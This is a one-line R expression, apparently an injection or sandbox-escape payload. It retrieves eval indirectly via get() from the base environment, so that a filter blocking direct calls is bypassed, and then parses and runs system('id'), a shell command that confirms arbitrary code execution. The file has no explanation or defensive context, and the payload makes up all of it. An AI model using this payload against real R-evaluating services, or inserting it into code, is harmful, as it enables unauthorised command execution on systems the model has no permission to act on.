get("eval", envir = baseenv())(parse(text = "system('id')"))
